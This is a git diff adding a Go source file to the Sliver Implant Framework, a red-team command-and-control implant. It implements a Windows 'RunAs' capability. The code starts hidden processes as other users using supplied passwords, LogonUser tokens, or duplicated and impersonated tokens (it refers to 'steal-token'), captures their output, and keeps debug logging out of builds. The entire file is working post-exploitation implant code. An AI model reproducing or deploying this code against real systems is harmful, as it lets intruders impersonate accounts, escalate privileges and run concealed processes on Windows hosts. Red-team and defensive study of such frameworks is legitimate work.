@@ -0,0 +1,230 @@
+package priv
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+	"bytes"
+	"errors"
+	"io/ioutil"
+	"os"
+	"os/exec"
+	"strings"
+	"syscall"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	LOGON_WITH_PROFILE        = 0x1
+	LOGON_NETCREDENTIALS_ONLY = 0x2
+)
+
+// RunAs - Start a process as another user. With a password the secondary
+// logon service creates the process (like runas.exe), SYSTEM can't use it and
+// starts the process from a LogonUser token instead. Without a password the
+// process gets the impersonated token (UseToken) or the token of a process
+// owned by Username.
+func RunAs(opts RunAsOptions) (*RunAsResult, error) {
+	commandLine := syscall.EscapeArg(opts.Process)
+	if opts.Args != "" {
+		commandLine += " " + opts.Args
+	}
+	if opts.Password != "" && !runningAsSystem() {
+		return runAsLogon(opts, commandLine)
+	}
+
+	var token windows.Token
+	var err error
+	switch {
+	case opts.Password != "":
+		username, domain := splitUsername(opts.Username, opts.Domain)
+		token, err = logonUser(username, domain, opts.Password, !opts.NetOnly)
+	case opts.UseToken:
+		if CurrentToken == windows.Token(0) {
+			return nil, errors.New("No token in use, see make-token, steal-token and impersonate")
+		}
+		err = windows.DuplicateTokenEx(CurrentToken, windows.MAXIMUM_ALLOWED, nil,
+			windows.SecurityImpersonation, windows.TokenPrimary, &token)
+	default:
+		token, err = impersonateUser(opts.Username)
+	}
+	if err != nil {
+		return nil, err
+	}
+	defer token.Close()
+	return runAsToken(token, opts, commandLine)
+}
+
+func runAsToken(token windows.Token, opts RunAsOptions, commandLine string) (*RunAsResult, error) {
+	cmd := exec.Command(opts.Process)
+	cmd.SysProcAttr = &windows.SysProcAttr{
+		Token:      syscall.Token(token),
+		HideWindow: true,
+		CmdLine:    commandLine,
+	}
+	output := &bytes.Buffer{}
+	if !opts.Background {
+		cmd.Stdout = output
+		cmd.Stderr = output
+	}
+	// {{if .Debug}}
+	log.Printf("Starting %s with token", commandLine)
+	// {{end}}
+	err := cmd.Start()
+	if err != nil {
+		return nil, err
+	}
+	result := &RunAsResult{Pid: cmd.Process.Pid}
+	result.Username, _ = tokenUsername(token)
+	if opts.Background {
+		cmd.Process.Release()
+		return result, nil
+	}
+	err = cmd.Wait()
+	if _, ok := err.(*exec.ExitError); err != nil && !ok {
+		return nil, err
+	}
+	result.Output = output.String()
+	return result, nil
+}
+
+func runAsLogon(opts RunAsOptions, commandLine string) (*RunAsResult, error) {
+	username, domain := splitUsername(opts.Username, opts.Domain)
+	usernamePtr, err := windows.UTF16PtrFromString(username)
+	if err != nil {
+		return nil, err
+	}
+	// Must be NULL for a UPN
+	var domainPtr *uint16
+	if domain != "" {
+		domainPtr, err = windows.UTF16PtrFromString(domain)
+		if err != nil {
+			return nil, err
+		}
+	}
+	passwordPtr, err := windows.UTF16PtrFromString(opts.Password)
+	if err != nil {
+		return nil, err
+	}
+	commandLinePtr, err := windows.UTF16PtrFromString(commandLine)
+	if err != nil {
+		return nil, err
+	}
+	logonFlags := uint32(LOGON_WITH_PROFILE)
+	if opts.NetOnly {
+		logonFlags = LOGON_NETCREDENTIALS_ONLY
+	}
+
+	startupInfo := &windows.StartupInfo{
+		Flags:      windows.STARTF_USESHOWWINDOW,
+		ShowWindow: windows.SW_HIDE,
+	}
+	var stdoutRead, stdoutWrite windows.Handle
+	if !opts.Background {
+		attributes := &windows.SecurityAttributes{InheritHandle: 1}
+		attributes.Length = uint32(unsafe.Sizeof(*attributes))
+		err = windows.CreatePipe(&stdoutRead, &stdoutWrite, attributes, 0)
+		if err != nil {
+			return nil, err
+		}
+		windows.SetHandleInformation(stdoutRead, windows.HANDLE_FLAG_INHERIT, 0)
+		startupInfo.Flags |= windows.STARTF_USESTDHANDLES
+		startupInfo.StdOutput = stdoutWrite
+		startupInfo.StdErr = stdoutWrite
+	}
+	startupInfo.Cb = uint32(unsafe.Sizeof(*startupInfo))
+
+	// {{if .Debug}}
+	log.Printf("Starting %s as %s", commandLine, opts.Username)
+	// {{end}}
+	procInfo := &windows.ProcessInformation{}
+	err = syscalls.CreateProcessWithLogon(usernamePtr, domainPtr, passwordPtr, logonFlags, nil, commandLinePtr,
+		windows.CREATE_NO_WINDOW|windows.CREATE_UNICODE_ENVIRONMENT, nil, nil, startupInfo, procInfo)
+	if stdoutWrite != 0 {
+		windows.CloseHandle(stdoutWrite)
+	}
+	if err != nil {
+		// {{if .Debug}}
+		log.Println("CreateProcessWithLogonW failed:", err)
+		// {{end}}
+		if stdoutRead != 0 {
+			windows.CloseHandle(stdoutRead)
+		}
+		return nil, err
+	}
+	defer windows.CloseHandle(procInfo.Process)
+	defer windows.CloseHandle(procInfo.Thread)
+
+	result := &RunAsResult{Pid: int(procInfo.ProcessId)}
+	result.Username, err = processUsername(procInfo.Process)
+	if err != nil {
+		result.Username = username
+		if domain != "" {
+			result.Username = domain + "\\" + username
+		}
+	}
+	if opts.Background {
+		return result, nil
+	}
+	stdout := os.NewFile(uintptr(stdoutRead), "stdout")
+	defer stdout.Close()
+	output, _ := ioutil.ReadAll(stdout)
+	windows.WaitForSingleObject(procInfo.Process, windows.INFINITE)
+	result.Output = string(output)
+	return result, nil
+}
+
+// splitUsername - DOMAIN\user or user@domain.fqdn (no domain), a local
+// account when no domain is given
+func splitUsername(username, domain string) (string, string) {
+	if index := strings.Index(username, "\\"); 0 <= index {
+		return username[index+1:], username[:index]
+	}
+	if strings.Contains(username, "@") {
+		return username, ""
+	}
+	if domain == "" {
+		domain = "."
+	}
+	return username, domain
+}
+
+func processUsername(process windows.Handle) (string, error) {
+	var token windows.Token
+	err := windows.OpenProcessToken(process, windows.TOKEN_QUERY, &token)
+	if err != nil {
+		return "", err
+	}
+	defer token.Close()
+	return tokenUsername(token)
+}
+
+func runningAsSystem() bool {
+	token, err := windows.OpenCurrentProcessToken()
+	if err != nil {
+		return false
+	}
+	defer token.Close()
+	return isSystemToken(token)
+}